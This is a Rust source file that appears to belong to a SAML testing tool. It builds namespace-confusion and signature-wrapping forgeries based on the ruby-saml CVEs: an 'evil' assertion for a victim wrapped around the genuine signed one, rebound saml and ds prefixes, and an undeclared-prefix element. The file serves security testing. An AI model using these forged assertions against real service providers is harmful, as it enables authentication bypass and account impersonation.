//! `namespace-confusion` (docs/advisories.md S9; ruby-saml CVE-2025-25292 and CVE-2025-66567):
//! elements whose prefixes do not mean what their usual names suggest.
//!
//! ruby-saml before 1.18.0 verified signatures with Nokogiri (names resolved by namespace URI)
//! and read the assertion with REXML XPath expressions written with fixed prefixes
//! (`/p:Response/a:Assertion`, `//ds:Signature`); documents whose namespace declarations the
//! two parsers resolve differently made the verifier and the reader pick different elements
//! (advisory GHSA-754f-8gm6-c4r2; fix e9c1cdbd: the reader only sees the canonicalised XML the
//! signature covers, and a document Nokogiri reports errors for is refused). The 1.12.4
//! backport (e76c5b36) only added the error check, so the same differential still wrapped a
//! forged assertion there (GHSA-9v8j-x534-2fx3, fixed in 1.18.0).
//!
//! The forged variants keep the genuine signed assertion whole and put the evil one *around*
//! it, so both travel in the one EncryptedAssertion like every other XSW forgery: the
//! EncryptedAssertion decrypts to the evil element, the genuine assertion its last child.

use super::NamespaceVariant;
use super::stages::StageContext;
use crate::saml::mint::{Assembly, Fragment, MintError};
use crate::saml::ns;
use crate::saml::response::write_assertion;

/// The URI the evil assertion's `saml` prefix is bound to: not the SAML assertion namespace.
pub(crate) const NOT_SAML: &str = "urn:mock:not-saml-assertion";
/// The URI the evil assertion's copied `ds:Signature` has its `ds` prefix bound to.
pub(crate) const NOT_DSIG: &str = "urn:mock:not-dsig";
/// The unusual prefix the genuine assertion is written with in the odd-prefix variants.
pub(crate) const ODD_PREFIX: &str = "a";
/// The undeclared prefix of the `undeclared-prefix` element.
pub(crate) const UNDECLARED_PREFIX: &str = "nlx";

/// The assembly-stage variants (everything but `undeclared-prefix`).
pub(crate) fn assembly(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    variant: NamespaceVariant,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if asm.fragments.is_empty() {
        return Ok(());
    }
    match variant {
        NamespaceVariant::WrongUriEvilFirst => {
            let genuine = asm.fragments[0].xml.clone();
            asm.fragments[0] = Fragment::assertion(evil_around(cx, victim, &genuine, false)?);
        }
        NamespaceVariant::DsWrongUri => {
            let genuine = asm.fragments[0].xml.clone();
            asm.fragments[0] = Fragment::assertion(evil_around(cx, victim, &genuine, true)?);
        }
        NamespaceVariant::GenuineOddPrefix => {
            asm.fragments[0] = Fragment::assertion(odd_prefix_genuine(cx)?);
        }
        NamespaceVariant::OddPrefixEvil => {
            let genuine = odd_prefix_genuine(cx)?;
            asm.fragments[0] = Fragment::assertion(evil_around(cx, victim, &genuine, false)?);
        }
        // A document-stage variant; `stages` never routes it here.
        NamespaceVariant::UndeclaredPrefix => {}
    }
    Ok(())
}

/// An evil assertion for the victim whose `saml` prefix is bound to [`NOT_SAML`], holding
/// `genuine` as its last child; with `bogus_signature`, also a copy of the genuine
/// `ds:Signature` (after its Issuer, where a signature sits) whose `ds` is bound to
/// [`NOT_DSIG`]. `genuine` declares its own prefixes in its start tag, so it is unchanged.
fn evil_around(
    cx: &StageContext<'_>,
    victim: &Option<String>,
    genuine: &str,
    bogus_signature: bool,
) -> Result<String, MintError> {
    let e = cx.evil_assertion(victim, "-evil")?;
    let signature = if bogus_signature {
        signature_of(genuine).map(|s| {
            s.replacen(
                &format!(r#"xmlns:ds="{}""#, ns::DS),
                &format!(r#"xmlns:ds="{NOT_DSIG}""#),
                1,
            )
        })
    } else {
        None
    };
    let evil = write_assertion(&e, signature.as_deref()).replacen(
        &format!(r#"xmlns:saml="{}""#, ns::SAML),
        &format!(r#"xmlns:saml="{NOT_SAML}""#),
        1,
    );
    Ok(match evil.rfind("</saml:Assertion>") {
        Some(end) => format!("{}{genuine}{}", &evil[..end], &evil[end..]),
        None => evil,
    })
}

/// The first `ds:Signature` element of `xml`, as written.
fn signature_of(xml: &str) -> Option<String> {
    let start = xml.find("<ds:Signature")?;
    let end = xml[start..].find("</ds:Signature>")? + start + "</ds:Signature>".len();
    Some(xml[start..end].to_string())
}

/// The login's own first assertion, written with [`ODD_PREFIX`] in place of `saml` (bound to
/// the same SAML assertion namespace) and then signed as the crypto stage chose: the genuine
/// assertion, in a serialisation as valid as the usual one.
fn odd_prefix_genuine(cx: &StageContext<'_>) -> Result<String, MintError> {
    let Some(a) = cx.model.assertions.first() else {
        return Ok(String::new());
    };
    let key = cx.input.keys.choose(cx.crypto.key);
    let signature = if cx.crypto.sign_assertion {
        Some(
            cx.crypto
                .signature_template(a.id.as_deref().unwrap_or_default(), key)?,
        )
    } else {
        None
    };
    let xml = rename_saml_prefix(&write_assertion(a, signature.as_deref()), ODD_PREFIX);
    if cx.crypto.sign_assertion {
        Ok(cx.signer.sign_enveloped(xml, &key.signer, cx.crypto.sha1)?)
    } else {
        Ok(xml)
    }
}

/// `xml` (as `write_assertion` writes it) with the element prefix `saml` renamed `prefix`:
/// start and end tags and the declaration. `write_assertion` uses the prefix nowhere else (no
/// QName-valued attribute or text names it).
fn rename_saml_prefix(xml: &str, prefix: &str) -> String {
    xml.replace("<saml:", &format!("<{prefix}:"))
        .replace("</saml:", &format!("</{prefix}:"))
        .replace("xmlns:saml=", &format!("xmlns:{prefix}="))
}

/// `undeclared-prefix`: a `samlp:Extensions` holding `<nlx:LoginHint>`, whose prefix no
/// element declares, in its schema place (before `samlp:Status`; inside an Extensions another
/// fault wrote). Outside the signed and encrypted parts, so the genuine login is intact: only
/// a parser that accepts a document that is not namespace-well-formed gets to it.
pub(crate) fn undeclared_prefix(response: &mut String) {
    let p = UNDECLARED_PREFIX;
    let element = format!("<{p}:LoginHint>mitid</{p}:LoginHint>");
    super::document::insert_in_extensions(response, &element);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renaming_the_prefix_keeps_the_names_and_the_namespace() {
        let x = format!(
            r#"<saml:Assertion xmlns:saml="{}" ID="_a"><saml:Issuer>i</saml:Issuer><ds:Signature xmlns:ds="{}"/></saml:Assertion>"#,
            ns::SAML,
            ns::DS
        );
        let r = rename_saml_prefix(&x, "a");
        assert!(!r.contains("saml:"), "{r}");
        let d = roxmltree::Document::parse(&r).unwrap();
        let root = d.root_element();
        assert!(root.has_tag_name((ns::SAML, "Assertion")));
        assert!(
            root.first_element_child()
                .unwrap()
                .has_tag_name((ns::SAML, "Issuer"))
        );
        assert!(r.starts_with("<a:Assertion xmlns:a="));
    }

    #[test]
    fn the_undeclared_prefix_makes_the_response_not_namespace_well_formed() {
        let mut r = format!(
            r#"<samlp:Response xmlns:samlp="{}"><samlp:Status/></samlp:Response>"#,
            ns::SAMLP
        );
        assert!(roxmltree::Document::parse(&r).is_ok());
        undeclared_prefix(&mut r);
        assert!(r.contains("<samlp:Extensions><nlx:LoginHint>"), "{r}");
        assert!(matches!(
            roxmltree::Document::parse(&r),
            Err(roxmltree::Error::UnknownNamespace(p, _)) if p == "nlx"
        ));
        // Inside an existing Extensions.
        let mut r = format!(
            r#"<samlp:Response xmlns:samlp="{}"><samlp:Extensions></samlp:Extensions><samlp:Status/></samlp:Response>"#,
            ns::SAMLP
        );
        undeclared_prefix(&mut r);
        assert_eq!(r.matches("<samlp:Extensions>").count(), 1);
        assert!(r.contains("<nlx:LoginHint>mitid</nlx:LoginHint></samlp:Extensions>"));
    }
}
